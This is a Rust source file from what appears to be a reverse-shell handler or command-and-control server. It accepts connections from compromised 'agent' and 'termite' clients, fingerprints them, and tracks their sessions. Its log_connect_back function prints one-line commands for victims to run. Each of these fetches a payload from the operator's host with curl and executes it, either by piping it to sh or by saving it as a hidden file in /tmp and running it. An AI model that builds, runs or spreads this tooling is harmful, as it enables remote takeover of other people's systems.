pub mod client;
pub mod listener;
pub mod termite;

use chrono::{DateTime, Utc};
use dashmap::mapref::entry::Entry;
use dashmap::DashMap;
use parking_lot::RwLock;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;
use tokio::net::{TcpListener, TcpStream};
use tokio_util::sync::CancellationToken;

use crate::config::ServerConfig;
use crate::context::Context;
use crate::crypto;
use crate::external::{ClientSnapshot, RegistryEvent};
use crate::protocol::Message;
use client::Client;
use termite::TermiteClient;

/// One listening endpoint and its registries of connected agents.
pub struct TcpServer {
    host: String,
    port: u16,
    encrypted: bool,
    group_dispatch: bool,
    fingerprint: String,
    hash_format: String,
    started_at: DateTime<Utc>,
    interfaces: Vec<String>,
    sniff_timeout: Duration,
    probe_timeout: Duration,
    clients: DashMap<String, Arc<Client>>,
    termite_clients: DashMap<String, Arc<TermiteClient>>,
    shutdown: CancellationToken,
    bound: RwLock<Option<SocketAddr>>,
    ctx: Arc<Context>,
}

impl std::fmt::Debug for TcpServer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("TcpServer")
            .field("host", &self.host)
            .field("port", &self.port)
            .field("encrypted", &self.encrypted)
            .field("fingerprint", &self.fingerprint)
            .finish_non_exhaustive()
    }
}

impl TcpServer {
    /// Validate the endpoint, register the server in the context, and
    /// pre-allocate distributor routes for encrypted listeners. The port is
    /// probe-bound and released; the real bind happens in [`run`].
    ///
    /// [`run`]: TcpServer::run
    pub async fn create(ctx: &Arc<Context>, config: &ServerConfig) -> crate::Result<Arc<Self>> {
        let service = format!("{}:{}", config.host, config.port);
        let fingerprint = crypto::fingerprint(&service);

        let hash_format = if config.hash_format.is_empty() {
            crypto::DEFAULT_HASH_FORMAT.to_string()
        } else {
            config.hash_format.clone()
        };

        let server = Arc::new(Self {
            host: config.host.clone(),
            port: config.port,
            encrypted: config.encrypted,
            group_dispatch: config.group_dispatch,
            fingerprint: fingerprint.clone(),
            hash_format,
            started_at: Utc::now(),
            interfaces: gather_interfaces(&config.host),
            sniff_timeout: config.sniff_timeout(),
            probe_timeout: config.probe_timeout(),
            clients: DashMap::new(),
            termite_clients: DashMap::new(),
            shutdown: CancellationToken::new(),
            bound: RwLock::new(None),
            ctx: ctx.clone(),
        });

        match ctx.servers.entry(fingerprint.clone()) {
            Entry::Occupied(_) => {
                tracing::error!("The server ({}) already exists", service);
                return Err(crate::AnteaterError::DuplicateServer(service));
            }
            Entry::Vacant(vacant) => {
                vacant.insert(server.clone());
            }
        }

        if config.encrypted {
            for ifaddr in &server.interfaces {
                let endpoint = format!("{}:{}", ifaddr, server.port);
                ctx.distributor
                    .routes
                    .insert(endpoint, crypto::random_token(8));
            }
        }

        tracing::info!("Trying to create server on: {}", service);

        let addr = match tokio::net::lookup_host(service.clone()).await {
            Ok(mut addrs) => match addrs.next() {
                Some(addr) => addr,
                None => {
                    ctx.delete_server(&fingerprint);
                    return Err(crate::AnteaterError::Resolve(service));
                }
            },
            Err(e) => {
                tracing::error!("Resolve address failed: {}", e);
                ctx.delete_server(&fingerprint);
                return Err(crate::AnteaterError::Resolve(service));
            }
        };

        // probe bind, released immediately
        match TcpListener::bind(addr).await {
            Ok(probe) => drop(probe),
            Err(e) => {
                tracing::error!("Listen failed: {}", e);
                ctx.delete_server(&fingerprint);
                return Err(e.into());
            }
        }

        Ok(server)
    }

    /// Bind for real and accept until [`stop`] is called. Each accepted
    /// connection is classified on its own task. Transient accept errors
    /// are logged and the loop continues.
    ///
    /// [`stop`]: TcpServer::stop
    pub async fn run(self: Arc<Self>) -> crate::Result<()> {
        let service = format!("{}:{}", self.host, self.port);

        let listener = match TcpListener::bind(service.as_str()).await {
            Ok(listener) => listener,
            Err(e) => {
                tracing::error!("Listen failed: {}", e);
                self.ctx.delete_server(&self.fingerprint);
                return Err(e.into());
            }
        };

        let acceptor = if self.encrypted {
            match crypto::tls::ephemeral_acceptor(&self.interfaces) {
                Ok(acceptor) => Some(acceptor),
                Err(e) => {
                    tracing::error!("Encrypted server failed to load keys: {}", e);
                    self.ctx.delete_server(&self.fingerprint);
                    return Err(e);
                }
            }
        } else {
            None
        };

        *self.bound.write() = Some(listener.local_addr()?);
        tracing::info!("Server running at: {}", self.full_desc());
        self.log_connect_back();

        loop {
            tokio::select! {
                _ = self.shutdown.cancelled() => {
                    break;
                }
                accepted = listener.accept() => {
                    match accepted {
                        Ok((stream, addr)) => {
                            let server = self.clone();
                            let acceptor = acceptor.clone();
                            tokio::spawn(async move {
                                listener::handle_connection(server, stream, addr, acceptor).await;
                            });
                        }
                        Err(e) => {
                            tracing::warn!("Accept failed: {}", e);
                            continue;
                        }
                    }
                }
            }
        }

        tracing::info!("Listener on {} closed", service);
        Ok(())
    }

    /// Cooperative shutdown: cancel the accept loop and close every plain
    /// client. Safe to call more than once.
    pub async fn stop(&self) {
        tracing::info!("Stopping server: {}", self.oneline_desc());
        self.shutdown.cancel();

        // nudge the listener for stacks where accept cannot be raced
        // against the cancellation signal; harmless when it can
        if let Some(addr) = self.local_addr() {
            if let Ok(conn) = TcpStream::connect(addr).await {
                drop(conn);
            }
        }

        let clients: Vec<Arc<Client>> = self.clients.iter().map(|e| e.value().clone()).collect();
        for client in clients {
            self.delete_client(&client).await;
        }
        // termite clients are left connected; their dispatchers exit when
        // the agent side drops
        // TODO: close termite clients here once operator-facing shutdown
        // semantics for live encrypted sessions are settled
    }

    /// Probe the new connection's identity and insert it, unless its
    /// fingerprint is already live, in which case the newcomer is rejected
    /// and closed and the existing session stays.
    pub async fn add_client(self: &Arc<Self>, client: Arc<Client>) {
        if self.shutdown.is_cancelled() {
            client.close().await;
            return;
        }

        let info = match self.ctx.probe.probe_plain(&client).await {
            Ok(info) => info,
            Err(e) => {
                tracing::warn!("Failed to probe client {}: {}", client.remote_addr(), e);
                client.close().await;
                return;
            }
        };

        let fingerprint = crypto::client_fingerprint(
            &self.hash_format,
            client.remote_addr(),
            &info,
            client.connected_at(),
        );
        client.set_identity(info, fingerprint.clone());

        let inserted = match self.clients.entry(fingerprint) {
            Entry::Occupied(_) => false,
            Entry::Vacant(vacant) => {
                vacant.insert(client.clone());
                true
            }
        };

        if inserted {
            tracing::info!("Fire in the hole: {}", client.oneline_desc());
            self.ctx.notifier.notify(RegistryEvent::ClientConnected {
                server: self.fingerprint.clone(),
                client: client.snapshot(),
            });
        } else {
            tracing::error!("Duplicated income connection detected!");
            self.ctx.notifier.notify(RegistryEvent::ClientDuplicated {
                server: self.fingerprint.clone(),
                client: client.snapshot(),
            });
            client.close().await;
        }
    }

    /// Remove by fingerprint and close. No-op on the map if the client was
    /// already removed; the connection close is attempted regardless.
    pub async fn delete_client(&self, client: &Arc<Client>) {
        self.clients.remove(&client.fingerprint());
        client.close().await;
    }

    /// Insert an already-probed termite client, spawning its dispatcher.
    /// On a fingerprint collision the newcomer is told it is duplicated
    /// (best-effort) and closed; the existing session stays.
    pub async fn add_termite_client(self: &Arc<Self>, client: Arc<TermiteClient>) {
        if self.shutdown.is_cancelled() {
            client.close().await;
            return;
        }

        let inserted = match self.termite_clients.entry(client.fingerprint()) {
            Entry::Occupied(_) => false,
            Entry::Vacant(vacant) => {
                vacant.insert(client.clone());
                true
            }
        };

        if inserted {
            tracing::info!("Encrypted fire in the hole: {}", client.oneline_desc());
            self.ctx.notifier.notify(RegistryEvent::ClientConnected {
                server: self.fingerprint.clone(),
                client: client.snapshot(),
            });
            tokio::spawn(termite::run_dispatcher(self.clone(), client));
        } else {
            tracing::error!("Duplicated income connection detected!");
            if let Err(e) = client.write_message(&Message::DuplicatedClient {}).await {
                tracing::error!("Network error: {}", e);
            }
            self.ctx.notifier.notify(RegistryEvent::ClientDuplicated {
                server: self.fingerprint.clone(),
                client: client.snapshot(),
            });
            client.close().await;
        }
    }

    /// Remove by fingerprint and close. Safe on an already-removed client.
    pub async fn delete_termite_client(&self, client: &Arc<TermiteClient>) {
        self.termite_clients.remove(&client.fingerprint());
        client.close().await;
    }

    pub fn host(&self) -> &str {
        &self.host
    }

    pub fn port(&self) -> u16 {
        self.port
    }

    pub fn encrypted(&self) -> bool {
        self.encrypted
    }

    pub fn group_dispatch(&self) -> bool {
        self.group_dispatch
    }

    pub fn fingerprint(&self) -> &str {
        &self.fingerprint
    }

    pub fn hash_format(&self) -> &str {
        &self.hash_format
    }

    pub fn interfaces(&self) -> &[String] {
        &self.interfaces
    }

    pub fn sniff_timeout(&self) -> Duration {
        self.sniff_timeout
    }

    pub fn probe_timeout(&self) -> Duration {
        self.probe_timeout
    }

    pub fn ctx(&self) -> &Arc<Context> {
        &self.ctx
    }

    /// Address actually bound by [`run`]; `None` until the listener is up.
    ///
    /// [`run`]: TcpServer::run
    pub fn local_addr(&self) -> Option<SocketAddr> {
        *self.bound.read()
    }

    pub fn client_count(&self) -> usize {
        self.clients.len()
    }

    pub fn termite_count(&self) -> usize {
        self.termite_clients.len()
    }

    pub fn clients(&self) -> Vec<Arc<Client>> {
        self.clients.iter().map(|e| e.value().clone()).collect()
    }

    pub fn termite_clients(&self) -> Vec<Arc<TermiteClient>> {
        self.termite_clients
            .iter()
            .map(|e| e.value().clone())
            .collect()
    }

    /// Read-only registry snapshot for the console layer.
    pub fn client_snapshots(&self) -> Vec<ClientSnapshot> {
        let mut snapshots: Vec<ClientSnapshot> =
            self.clients.iter().map(|e| e.value().snapshot()).collect();
        snapshots.extend(self.termite_clients.iter().map(|e| e.value().snapshot()));
        snapshots
    }

    pub fn oneline_desc(&self) -> String {
        format!(
            "{}:{} ({} online clients)",
            self.host,
            self.port,
            self.clients.len() + self.termite_clients.len(),
        )
    }

    pub fn full_desc(&self) -> String {
        let mut desc = format!(
            "[{}] {}:{} ({} online clients) (started at: {})",
            self.fingerprint,
            self.host,
            self.port,
            self.clients.len() + self.termite_clients.len(),
            self.started_at.to_rfc3339(),
        );
        for client in self.clients.iter() {
            desc.push_str(&format!("\n\t{}", client.value().full_desc()));
        }
        for client in self.termite_clients.iter() {
            desc.push_str(&format!("\n\t{}", client.value().full_desc()));
        }
        desc
    }

    /// Operator-facing connect-back instructions, one block per interface.
    fn log_connect_back(&self) {
        if self.encrypted {
            for ifaddr in &self.interfaces {
                let endpoint = format!("{}:{}", ifaddr, self.port);
                tracing::warn!("Connect back to: {}", endpoint);
                if let Some(token) = self.ctx.distributor.routes.get(&endpoint) {
                    tracing::warn!(
                        "\t`curl -fsSL http://{}/termite/{} -o /tmp/.{} && chmod +x /tmp/.{} && /tmp/.{}`",
                        endpoint,
                        token.value(),
                        token.value(),
                        token.value(),
                        token.value(),
                    );
                }
            }
        } else {
            for ifaddr in &self.interfaces {
                tracing::warn!("\t`curl http://{}:{}/|sh`", ifaddr, self.port);
            }
        }
    }
}

/// Interfaces reachable for connect-back. A wildcard host expands to
/// loopback plus the default-route local address; anything else is taken
/// as-is.
fn gather_interfaces(host: &str) -> Vec<String> {
    if host != "0.0.0.0" && host != "::" {
        return vec![host.to_string()];
    }

    let mut interfaces = vec!["127.0.0.1".to_string()];
    // learn the default-route source address; no packets are sent
    if let Ok(socket) = std::net::UdpSocket::bind("0.0.0.0:0") {
        if socket.connect("8.8.8.8:80").is_ok() {
            if let Ok(addr) = socket.local_addr() {
                let ip = addr.ip().to_string();
                if !interfaces.contains(&ip) {
                    interfaces.push(ip);
                }
            }
        }
    }
    interfaces
}
